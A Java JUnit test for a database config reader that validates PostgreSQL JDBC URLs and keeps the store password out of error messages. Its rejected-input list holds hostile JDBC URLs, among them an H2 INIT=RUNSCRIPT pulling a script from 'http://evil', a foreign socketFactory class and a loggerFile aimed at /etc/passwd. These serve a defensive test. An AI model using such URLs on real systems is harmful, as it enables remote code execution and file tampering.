package dev.ringproof.runtime;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.ringproof.contract.json.DocumentException;
import dev.ringproof.runtime.config.Config;
import dev.ringproof.runtime.config.ConfigReader;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Where the shared database is: nothing but that is taken from its URL, and no secret is shown. */
final class StoreConfigTest {
  private static final String GOOD = "jdbc:postgresql://db.example:5432/ringproof";

  @TempDir Path dir;

  private Config config(Map<String, String> more) throws IOException {
    var keys = new HashMap<String, String>();
    Files.writeString(dir.resolve("empty"), "");
    for (var name : List.of("JWKS", "GRANT", "TRUSTED_KEYS")) {
      keys.put("RINGPROOF_" + name + "_FILE", dir.resolve("empty").toString());
    }
    for (var name : List.of("MODEL_PRIMARY_URL", "MODEL_FALLBACK_URL", "TOOLS_URL")) {
      keys.put("RINGPROOF_" + name, "http://127.0.0.1:1");
    }
    keys.put("RINGPROOF_ISSUER", "https://issuer.test");
    keys.put("RINGPROOF_AUDIENCE", "ringproof");
    keys.put("RINGPROOF_RING", "0");
    keys.putAll(more);
    return ConfigReader.read(null, keys);
  }

  @Test
  void noUrlIsSqlite() throws IOException {
    assertThat(config(Map.of()).store()).isNull();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        GOOD,
        "jdbc:postgresql://10.0.0.1/ringproof?sslmode=verify-full&sslrootcert=/etc/ca.pem",
        "jdbc:postgresql://a:5432,b:5432/ringproof?targetServerType=primary",
        "jdbc:postgresql://[::1]:5432/ringproof"
      })
  void goodOnesAreTaken(String url) throws IOException {
    var store = config(Map.of("RINGPROOF_STORE_URL", url, "RINGPROOF_STORE_USER", "rp")).store();
    assertThat(Objects.requireNonNull(store).url()).isEqualTo(url);
    assertThat(store.user()).isEqualTo("rp");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
        "jdbc:postgresql:ringproof",
        "postgresql://db.example/ringproof",
        "jdbc:postgresql://rp:hunter2@db.example/ringproof",
        GOOD + "?password=hunter2",
        GOOD + "?user=rp",
        GOOD + "?socketFactory=org.evil.Factory&socketFactoryArg=hunter2",
        GOOD + "?loggerFile=/etc/passwd",
        GOOD + "?options=-c%20hunter2",
        GOOD + "?sslmode=require&sslmode",
        GOOD + "?sslmode=a b",
        GOOD + "/../hunter2",
        GOOD + "#hunter2",
        GOOD + "?=hunter2"
      })
  void hostileOnesAreRefusedAndNotRepeated(String url) {
    assertThatThrownBy(() -> config(Map.of("RINGPROOF_STORE_URL", url)))
        .isInstanceOf(DocumentException.class)
        .hasMessageContaining("RINGPROOF_STORE_URL")
        .hasMessageContaining("expected jdbc:postgresql://host:port/database")
        .hasMessageNotContaining("hunter2");
  }

  @Test
  void thePasswordComesFromAFileOfItsOwnersOrTheEnvironment() throws IOException {
    var file = Files.writeString(dir.resolve("password"), "hunter2\n");
    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-------"));
    var by = new HashMap<>(Map.of("RINGPROOF_STORE_URL", GOOD));
    by.put("RINGPROOF_STORE_PASSWORD_FILE", file.toString());
    var config = config(by);
    var store = Objects.requireNonNull(config.store());
    assertThat(store.password()).isEqualTo("hunter2");
    assertThat(store + " " + config).doesNotContain("hunter2");
    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-r--r--"));
    refused(by, "open to others");
    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-------"));
    Files.writeString(file, "hunter2\nhunter3");
    refused(by, "something else in");
    by.put("RINGPROOF_STORE_PASSWORD_FILE", dir.resolve("none").toString());
    refused(by, "no readable file");
    by.put("RINGPROOF_STORE_PASSWORD", "hunter4");
    refused(by, "store-password beside it");
    by.remove("RINGPROOF_STORE_PASSWORD_FILE");
    assertThat(Objects.requireNonNull(config(by).store()).password()).isEqualTo("hunter4");
    by.remove("RINGPROOF_STORE_URL");
    refused(by, "nothing without store-url");
  }

  private void refused(Map<String, String> keys, String why) {
    assertThatThrownBy(() -> config(keys))
        .isInstanceOf(DocumentException.class)
        .hasMessageContaining(why)
        .hasMessageNotContaining("hunter2")
        .hasMessageNotContaining("hunter4");
  }
}
